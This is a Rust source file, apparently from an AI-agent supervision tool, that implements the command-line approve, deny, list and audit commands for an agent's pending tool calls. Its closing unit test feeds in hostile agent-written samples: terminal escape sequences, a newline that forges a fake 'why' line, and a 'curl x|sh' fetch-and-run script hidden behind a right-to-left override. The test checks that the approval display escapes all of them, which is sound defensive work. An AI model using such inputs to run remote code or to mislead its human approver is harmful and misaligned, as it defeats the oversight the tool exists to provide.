//! The human channel on the command line: `legate approvals [--json] [--follow]`, `legate
//! approve ID [--for-task]`, `legate deny ID --reason TEXT` and `legate audit [--task ID]
//! [--since …] [--json]`.
//!
//! These run in a process of their own, not the one whose agent waits: they read and answer
//! through `legate_engine::Records` (wrapped in `legate_engine::ApprovalDesk`, the same queue the
//! supervisor MCP profile answers), never the store directly, and the waiting process sees
//! the answer. Answering needs a person at a terminal or the supervisor token
//! (`crate::supervise`); listing does not (it shows what `legate tasks` already shows to
//! whoever can read the home). This module prints; it decides nothing.

use crate::config::Config;
use anyhow::Result;
use legate_core::{Timestamp, ToolKind};
use legate_engine::ApprovalDesk;
use legate_engine::{Answer, Approval, ApprovalAnswer, ApprovalFilter, AuditEntry, AuditFilter};
use legate_engine::{parse_since, seconds_left};
use legate_mcp::approvals::ListedApproval;
use std::collections::HashSet;
use std::io::IsTerminal;
use std::process::ExitCode;
use std::time::Duration;

/// The channel a CLI answer is recorded with.
pub const CHANNEL: &str = "cli";
/// How often `--follow` re-reads the queue (answers and new requests come from other
/// processes, through the store).
const FOLLOW_POLL: Duration = Duration::from_millis(250);

/// `legate approvals`.
// The command line's syntax for an `ApprovalFilter` (a task id may be a prefix, resolved
// here) and how to show the approvals.
#[derive(Debug, clap::Args)]
pub struct ApprovalsFlags {
    /// Print JSON lines, one approval each (with `secondsLeft`).
    #[arg(long)]
    json: bool,
    /// Keep printing requests as they arrive; on a terminal, ask approve / allow for the
    /// task / deny / skip for each. Without a terminal it only prints. Ctrl-C stops.
    #[arg(long)]
    follow: bool,
    /// Also approvals already decided or expired.
    #[arg(long, conflicts_with = "follow")]
    all: bool,
    /// Only approvals of this task (id or unique prefix).
    #[arg(long)]
    task: Option<String>,
    /// How many.
    #[arg(long, default_value_t = 50)]
    limit: usize,
}

/// `legate approve`.
#[derive(Debug, clap::Args)]
pub struct ApproveArgs {
    /// The approval id (or an unambiguous prefix of at least 8 characters).
    id: String,
    /// Allow this request and later ones of the same scope in this task.
    #[arg(long)]
    for_task: bool,
    /// Why (recorded in the audit).
    #[arg(long)]
    reason: Option<String>,
}

/// `legate deny`.
#[derive(Debug, clap::Args)]
pub struct DenyArgs {
    /// The approval id (or an unambiguous prefix of at least 8 characters).
    id: String,
    /// Why: recorded in the audit and sent back to the agent with the refusal.
    #[arg(long, required = true)]
    reason: String,
}

/// `legate audit`.
// The command line's syntax for an `AuditFilter` (a task id may be a prefix, `--since` a
// duration or a time) and how to print the entries.
#[derive(Debug, clap::Args)]
pub struct AuditFlags {
    /// Only decisions of this task (id or unique prefix).
    #[arg(long)]
    task: Option<String>,
    /// Only decisions since then: a duration back from now (`90s`, `2h`, `1day`) or an RFC
    /// 3339 time.
    #[arg(long)]
    since: Option<String>,
    /// How many.
    #[arg(long, default_value_t = 200)]
    limit: usize,
    /// Print JSON lines, one decision each.
    #[arg(long)]
    json: bool,
}

fn queue(config: &Config) -> Result<(ApprovalDesk, legate_engine::Records)> {
    let records = legate_engine::Records::open_or_empty(&config.engine.paths)?;
    Ok((ApprovalDesk::Records(records.clone()), records))
}

fn task_id(
    records: &legate_engine::Records,
    given: Option<String>,
) -> Result<Option<legate_core::TaskId>> {
    Ok(match given {
        Some(id) => Some(records.find_task(&id)?.id),
        None => None,
    })
}

fn when(t: Timestamp) -> String {
    humantime::format_rfc3339_seconds(t.to_system_time()).to_string()
}

fn kind(k: ToolKind) -> String {
    serde_json::to_value(k)
        .ok()
        .and_then(|v| v.as_str().map(str::to_string))
        .unwrap_or_else(|| format!("{k:?}"))
}

/// The lines of one approval, for a person.
fn approval_lines(a: &Approval, now: Timestamp) -> Vec<String> {
    let left = match seconds_left(a, now) {
        Some(s) => format!("{s}s left"),
        None => a.state.as_str().to_string(),
    };
    let mut lines = vec![format!(
        "{}  task {}  {} ({})  {} {}  deadline {} ({left})",
        a.id,
        a.task_id,
        a.agent,
        a.role,
        kind(a.tool.kind),
        crate::one_line(&a.tool.title, 60),
        when(a.deadline),
    )];
    if let Some(words) = &a.tool.command {
        lines.push(format!(
            "    command  {}",
            crate::one_line(&words.join(" "), 100)
        ));
    }
    if let Some(destination) = &a.tool.destination {
        // A connection through the egress proxy: where to, as Legate's proxy read it.
        lines.push(format!("    connects {}", destination.escape_debug()));
    }
    if let Some(script) = &a.tool.script {
        // Not one plain command: shown whole (one line, escaped), since its tail may be what
        // matters and the title above is the agent's own words.
        lines.push(format!("    runs     {}", script.escape_debug()));
    }
    for p in a.tool.paths.iter().take(5) {
        lines.push(format!(
            "    path     {}",
            p.to_string_lossy().escape_debug()
        ));
    }
    let rule = a
        .rule_id
        .as_deref()
        .map(|r| format!("rule {r}: "))
        .unwrap_or_default();
    lines.push(format!(
        "    why      {rule}{}",
        crate::one_line(&a.reason, 100)
    ));
    if let Some(d) = &a.decided {
        lines.push(format!("    decided  {}", entry_line(d)));
    }
    lines
}

fn print_approval(a: Approval, json: bool, now: Timestamp) -> Result<()> {
    if json {
        let listed = ListedApproval {
            seconds_left: seconds_left(&a, now),
            approval: a,
        };
        crate::out!("{}", crate::json_out::line(&listed)?)?;
    } else {
        for line in approval_lines(&a, now) {
            crate::out!("{line}")?;
        }
    }
    Ok(())
}

/// One audit entry on one line.
fn entry_line(e: &AuditEntry) -> String {
    let decider = serde_json::to_value(e.decider)
        .ok()
        .and_then(|v| v.as_str().map(str::to_string))
        .unwrap_or_default();
    let decision = serde_json::to_value(e.decision)
        .ok()
        .and_then(|v| v.as_str().map(str::to_string))
        .unwrap_or_default();
    let mut about: Vec<String> = e.channel.iter().cloned().collect();
    about.extend(e.rule_id.iter().map(|r| format!("rule {r}")));
    let by = if about.is_empty() {
        decider
    } else {
        format!("{decider} ({})", about.join(", "))
    };
    format!(
        "{}  task {}  {:<8} by {by}  {} {}  option {}  {}",
        when(e.at),
        e.task_id,
        decision,
        kind(e.tool.kind),
        crate::one_line(&e.tool.title, 50),
        e.option_id.as_deref().unwrap_or("-"),
        crate::one_line(&e.reason, 80)
    )
}

/// `legate approvals`.
pub async fn list(config: Config, flags: ApprovalsFlags) -> Result<ExitCode> {
    // Taken apart whole and the filter built whole, so a flag added to `ApprovalsFlags`, or a
    // field to `ApprovalFilter`, does not compile until it is mapped here.
    let ApprovalsFlags {
        json,
        follow,
        all,
        task,
        limit,
    } = flags;
    let (queue, records) = queue(&config)?;
    let filter = ApprovalFilter {
        task_id: task_id(&records, task)?,
        pending_only: !all,
        limit: limit.clamp(1, 10_000),
    };
    if follow {
        return self::follow(&config, queue, filter, json).await;
    }
    let approvals = queue.approvals(&filter)?;
    if approvals.is_empty() && !json && std::io::stdout().is_terminal() {
        crate::out!("no approvals waiting")?;
    }
    let now = Timestamp::now();
    for a in approvals {
        print_approval(a, json, now)?;
    }
    Ok(ExitCode::SUCCESS)
}

/// `legate approvals --follow`: prints each pending approval once, as it arrives (oldest of a
/// batch first), and on a terminal asks for an answer. Started on a home with no store yet,
/// it opens the store once the first task creates it (an empty stand-in would never see a
/// request).
async fn follow(
    config: &Config,
    mut queue: ApprovalDesk,
    filter: ApprovalFilter,
    json: bool,
) -> Result<ExitCode> {
    let paths = &config.engine.paths;
    let mut store_missing = !paths.db().exists();
    let interactive = crate::supervise::at_a_terminal() && !json;
    if interactive {
        crate::supervise::require_answerer(config, "legate approvals --follow")?;
    }
    let stop = crate::front::stop_signal();
    tokio::pin!(stop);
    let mut seen: HashSet<String> = HashSet::new();
    loop {
        if store_missing && paths.db().exists() {
            queue = self::queue(config)?.0;
            store_missing = false;
        }
        let mut fresh: Vec<Approval> = queue
            .approvals(&filter)?
            .into_iter()
            .filter(|a| !seen.contains(&a.id))
            .collect();
        fresh.reverse();
        for a in fresh {
            seen.insert(a.id.clone());
            let id = a.id.clone();
            print_approval(a, json, Timestamp::now())?;
            {
                use std::io::Write as _;
                std::io::stdout().flush()?;
            }
            if interactive {
                ask(&queue, &id).await?;
            }
        }
        tokio::select! {
            _ = &mut stop => return Ok(ExitCode::SUCCESS),
            _ = tokio::time::sleep(FOLLOW_POLL) => {}
        }
    }
}

/// Reads one line from the terminal.
async fn read_line(prompt: String) -> Result<String> {
    Ok(tokio::task::spawn_blocking(move || {
        eprint!("{prompt}");
        let mut line = String::new();
        std::io::stdin().read_line(&mut line).map(|_| line)
    })
    .await??
    .trim()
    .to_string())
}

/// Asks the person at the terminal for an answer to `id` and gives it.
async fn ask(queue: &ApprovalDesk, id: &str) -> Result<()> {
    loop {
        let choice =
            read_line("  [a]pprove, allow for the [t]ask, [d]eny, [s]kip? ".into()).await?;
        let (answer, reason) = match choice.as_str() {
            "a" | "approve" => (Answer::Allow, None),
            "t" | "task" => (Answer::AllowForTask, None),
            "d" | "deny" => {
                let reason = read_line("  reason: ".into()).await?;
                (Answer::Deny, Some(reason).filter(|r| !r.is_empty()))
            }
            "s" | "skip" | "" => return Ok(()),
            _ => continue,
        };
        match answer_one(queue, id, answer, reason) {
            Ok(line) => eprintln!("  {line}"),
            // Another channel or the deadline got there first: say so and go on.
            Err(e) => eprintln!("  {}", crate::error_chain(&e)),
        }
        return Ok(());
    }
}

fn answer_one(
    queue: &ApprovalDesk,
    id: &str,
    answer: Answer,
    reason: Option<String>,
) -> Result<String> {
    let reason = reason
        .map(|r| r.trim().to_string())
        .filter(|r| !r.is_empty());
    let a = queue.answer(
        id,
        ApprovalAnswer {
            answer,
            reason,
            channel: CHANNEL.to_string(),
        },
    )?;
    Ok(format!(
        "{} {} ({})",
        a.id,
        a.state.as_str(),
        answer.as_str()
    ))
}

/// `legate approve`.
pub fn approve(config: Config, args: ApproveArgs) -> Result<ExitCode> {
    crate::supervise::require_answerer(&config, "legate approve")?;
    let (queue, _) = queue(&config)?;
    let answer = if args.for_task {
        Answer::AllowForTask
    } else {
        Answer::Allow
    };
    crate::out!("{}", answer_one(&queue, &args.id, answer, args.reason)?)?;
    Ok(ExitCode::SUCCESS)
}

/// `legate deny`.
pub fn deny(config: Config, args: DenyArgs) -> Result<ExitCode> {
    crate::supervise::require_answerer(&config, "legate deny")?;
    if args.reason.trim().is_empty() {
        crate::fail!(
            InvalidInput,
            "--reason must say why (it is sent back to the agent)"
        );
    }
    let (queue, _) = queue(&config)?;
    crate::out!(
        "{}",
        answer_one(&queue, &args.id, Answer::Deny, Some(args.reason))?
    )?;
    Ok(ExitCode::SUCCESS)
}

/// `legate audit`.
pub fn audit(config: Config, flags: AuditFlags) -> Result<ExitCode> {
    // Taken apart whole and the filter built whole, so a flag added to `AuditFlags`, or a
    // field to `AuditFilter`, does not compile until it is mapped here.
    let AuditFlags {
        task,
        since,
        limit,
        json,
    } = flags;
    let (queue, records) = queue(&config)?;
    let since = since
        .as_deref()
        .map(|s| parse_since(s, Timestamp::now()))
        .transpose()?;
    let entries = queue.audit(&AuditFilter {
        task_id: task_id(&records, task)?,
        since,
        limit: limit.clamp(1, 10_000),
    })?;
    if entries.is_empty() && !json && std::io::stdout().is_terminal() {
        crate::out!("no decisions recorded")?;
    }
    for e in entries {
        if json {
            crate::out!("{}", crate::json_out::line(&e)?)?;
        } else {
            crate::out!("{}", entry_line(&e))?;
        }
    }
    Ok(ExitCode::SUCCESS)
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use legate_engine::{ApprovalState, ToolCallSummary};

    #[test]
    fn agent_written_text_cannot_drive_the_terminal_or_forge_a_line() {
        // Before: the title and paths went to the terminal as the agent wrote them, so an
        // escape sequence could erase or recolour the line, and a newline in a path could
        // print a forged `why` line under it.
        let mut a = Approval {
            id: "a1".into(),
            task_id: legate_core::TaskId("t1".into()),
            agent: "worker".into(),
            role: "implementer".into(),
            tool: ToolCallSummary {
                kind: ToolKind::Execute,
                title: "run \u{1b}[2K\rcargo test\u{9b}1A".into(),
                paths: vec!["src/a.rs\n    why      rule safe: harmless".into()],
                command: Some(vec!["cargo".into(), "t\u{1b}]0;x\u{7}".into()]),
                script: None,
                destination: None,
            },
            options: Vec::new(),
            rule_id: Some("r".into()),
            reason: "why \u{1b}[8m".into(),
            answerers: vec!["human".into()],
            created_at: Timestamp(0),
            deadline: Timestamp(1000),
            state: ApprovalState::Pending,
            answer: None,
            closed_reason: None,
            decided: None,
        };
        let lines = approval_lines(&a, Timestamp(0));
        for line in &lines {
            assert!(!line.chars().any(char::is_control), "{line:?}");
        }
        assert_eq!(
            lines
                .iter()
                .filter(|l| l.trim_start().starts_with("why"))
                .count(),
            1,
            "{lines:?}"
        );
        // A login shell is not one plain command: its argv is shown whole as sent, with a
        // right-to-left override escaped (issue 29, findings 2 and 7).
        a.tool.command = None;
        a.tool.script = Some("[\"bash\",\"-lc\",\"touch a; curl x|sh #\u{202e}txt.exe\"]".into());
        let lines = approval_lines(&a, Timestamp(0));
        let runs = lines
            .iter()
            .find(|l| l.trim_start().starts_with("runs"))
            .unwrap_or_else(|| panic!("{lines:?}"));
        assert!(runs.contains("-lc") && runs.contains("curl x|sh"), "{runs}");
        assert!(
            !runs.contains('\u{202e}') && runs.contains("\\u{202e}"),
            "{runs}"
        );
    }
}
